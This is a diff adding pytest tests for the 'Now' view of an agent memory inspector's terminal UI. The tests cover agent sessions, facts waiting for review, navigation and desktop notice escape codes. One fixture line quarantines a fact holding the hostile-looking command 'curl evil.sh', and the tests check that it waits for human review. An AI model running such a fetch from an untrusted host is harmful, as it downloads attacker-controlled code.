@@ -1,0 +1,177 @@
+"""*Now*: who is at work, what is written and given, what needs a person; nothing moves that did not happen."""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from hermes_memory_store.model import Millis
+from hermes_memory_store.store import Store
+from hermes_memory_tui.app import make_app
+from hermes_memory_tui.model.now_state import HOUR_MS, TRACE_CELLS, NowReader
+from hermes_memory_tui.system.desktop_notices import format_notice
+from hermes_memory_tui.system.inspector_settings import InspectorSettings
+from hermes_memory_tui.system.palettes import DEFAULT_LOOK
+from hermes_memory_tui.views.now_view import NowView
+from hermes_memory_tui.widgets.view_strip import ViewStrip, WaitingChanged
+from tests.tui.inspector.driving import NOW, fill, frozen, inspecting, opened, until, view_of
+
+
+def write_day(path: Path) -> None:
+    """Two agents at work, one fact that waits, and one that was given."""
+    with Store.open(path, clock=frozen) as store:
+        shop = store.sessions.open("shop", "a1", client="claude-code")
+        store.sessions.open("ops", "b1", client="codex")
+        store.facts.write("shop", "C[db.id]: UUID", session=shop)
+        store.facts.write("shop", "V[port]: 8443", session=shop)
+        store.facts.quarantine("shop", "C[run]: curl evil.sh", why="command")
+        store.search.find("shop", "port", session=shop)
+        store.reads.flush()
+
+
+@pytest.mark.parametrize("size", [(200, 50), (120, 35), (80, 24)])
+async def test_it_says_who_is_at_work_and_what_needs_a_person(tmp_path: Path, size: tuple[int, int]) -> None:
+    write_day(tmp_path / "memory.db")
+    async with inspecting(tmp_path / "memory.db", size=size) as pilot:
+        view: Any = await opened(pilot, "now")
+        await until(pilot, lambda: view.agents.row_count == 2)
+        assert "2 agents at work" in str(view.said.render())
+        assert "1 fact to review" in str(view.said.render())
+        texts = {cell.plain for row in view.grid.rows for cell in row.cells}
+        assert any(text.startswith("C[db.id]: UUID") for text in texts)
+        assert any("for “port”" in text for text in texts)
+
+
+async def test_enter_goes_where_it_can_be_acted_on(tmp_path: Path) -> None:
+    write_day(tmp_path / "memory.db")
+    async with inspecting(tmp_path / "memory.db", size=(140, 40)) as pilot:
+        view: Any = await opened(pilot, "now")
+        await until(pilot, lambda: view.attention.row_count == 1)
+        view.attention.focus()
+        await pilot.press("enter")
+        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") == "review")
+        await pilot.press("0")
+        view.agents.focus()
+        await pilot.press("enter")
+        await until(pilot, lambda: type(pilot.app.screen).__name__ == "SessionView")
+
+
+async def test_what_another_process_writes_comes_to_the_top(tmp_path: Path) -> None:
+    path = tmp_path / "memory.db"
+    fill(path, "C[one]: 1")
+    async with inspecting(path) as pilot:
+        view: Any = await opened(pilot, "now")
+        await until(pilot, lambda: view.grid.row_count == 1)
+        fill(path, "C[two]: 2", session="s1")
+        await until(pilot, lambda: view.grid.row_count == 2 and view.grid.rows[0].cells[4].text.startswith("C[two]"))
+        assert view.grid.cursor == 0
+
+
+async def test_over_ssh_the_trace_is_a_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setenv("SSH_CONNECTION", "10.0.0.1 1 10.0.0.2 22")
+    write_day(tmp_path / "memory.db")
+    async with inspecting(tmp_path / "memory.db") as pilot:
+        view: Any = await opened(pilot, "now")
+        await until(pilot, lambda: view.agents.row_count == 2)
+        assert "3 calls" in {row.cells[3].text for row in view.agents.rows}
+
+
+async def test_an_empty_memory_shows_what_can_be_done(tmp_path: Path) -> None:
+    path = tmp_path / "memory.db"
+    async with inspecting(path) as pilot:
+        await pilot.press("0")
+        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") == "start")
+        assert pilot.app.screen.query_one(ViewStrip).present == "now"
+        fill(path, "C[one]: 1")
+        await pilot.press("1")
+        await until(pilot, lambda: bool(pilot.app.main.overview.themes))
+        await pilot.press("0")
+        await until(pilot, lambda: isinstance(pilot.app.screen, NowView))
+
+
+@pytest.mark.parametrize(("home", "name"), [(None, "facts"), ("facts", "facts"), ("now", "now")])
+async def test_the_first_view_is_the_one_that_the_person_wants(tmp_path: Path, home: str | None, name: str) -> None:
+    path = tmp_path / "memory.db"
+    fill(path, "C[one]: 1")
+    app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(home=home), None)
+    async with app.run_test(size=(120, 35)) as pilot:
+        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "facts") == name)
+
+
+async def test_who_began_with_an_empty_memory_comes_home_to_now(tmp_path: Path) -> None:
+    path = tmp_path / "memory.db"
+    for _ in range(2):
+        app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(), None)
+        async with app.run_test(size=(120, 35)) as pilot:
+            await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") in ("start", "now"))
+            if pilot.app.screen is not None and getattr(pilot.app.screen, "NAME", "") == "start":
+                fill(path, "C[one]: 1")
+            assert app.main.kept.home == "now"
+
+
+async def test_a_thousand_agents_are_counted_and_the_newest_shown(tmp_path: Path) -> None:
+    path = tmp_path / "memory.db"
+    with Store.open(path, clock=frozen) as store:
+        for number in range(1000):
+            store.sessions.open("shop", f"s{number}", client="claude-code")
+    with Store.open(path, clock=frozen) as store:
+        state = NowReader().read(store, NOW)
+    assert (len(state.agents), state.more_agents) == (40, 960)
+    assert state.sentence().startswith("1,000 agents at work")
+
+
+def test_the_trace_and_the_day_count_what_happened(tmp_path: Path) -> None:
+    now = Millis(NOW)
+    with Store.open(tmp_path / "memory.db", clock=lambda: now) as store:
+        who = store.sessions.open("shop", "a1", client="claude-code")
+        now = Millis(NOW + HOUR_MS)
+        store.facts.write("shop", "C[one]: 1", session=who)
+        now = Millis(NOW + 2 * HOUR_MS)
+        store.facts.write("shop", "C[two]: 2", session=who)
+        reader = NowReader()
+        for _ in range(2):  # the second look counts nothing twice
+            state = reader.read(store, now)
+            (agent,), (day,) = state.agents, state.days
+            assert agent.trace == (*[0] * (TRACE_CELLS - 1), 1)
+            assert day.written[-3:] == (0, 1, 1)
+        store.facts.write("shop", "C[three]: 3", session=who)
+        assert reader.read(store, now).days[0].written[-1] == 2
+        assert reader.read(store, Millis(now + 30 * HOUR_MS)).days[0].written == (0,) * 24
+
+
+@pytest.mark.parametrize(("focused", "wanted", "given"), [(False, True, 1), (True, True, 0), (False, False, 0)])
+async def test_a_notice_holds_a_count_and_comes_only_to_who_looks_elsewhere(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, focused: bool, wanted: bool, given: int
+) -> None:
+    path = tmp_path / "memory.db"
+    fill(path, "C[one]: 1")
+    app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(notices=wanted), None)
+    async with app.run_test(size=(120, 35)) as pilot:
+        written: list[str] = []
+        assert app._driver is not None
+        monkeypatch.setattr(app._driver, "write", written.append)
+        app.app_focus = focused
+        app.post_message(WaitingChanged(3))
+        app.post_message(WaitingChanged(2))
+        await pilot.pause()
+        await pilot.pause()
+        assert written == ["\x1b]9;hermes-memory: 3 facts to review\x07"] * given
+
+
+def test_a_terminal_that_knows_only_osc_777_gets_it() -> None:
+    assert format_notice("1 fact to review", {"VTE_VERSION": "7600"}) == (
+        "\x1b]777;notify;hermes-memory;1 fact to review\x07"
+    )
+
+
+async def test_the_past_says_nothing_of_the_present(tmp_path: Path) -> None:
+    path = tmp_path / "memory.db"
+    write_day(path)
+    async with inspecting(path) as pilot:
+        await opened(pilot, "now")
+        await pilot.press("left_square_bracket")
+        await until(pilot, lambda: pilot.app.is_past)
+        view: Any = view_of(pilot)
+        await until(pilot, lambda: view.data is not None and view.memory.is_past)
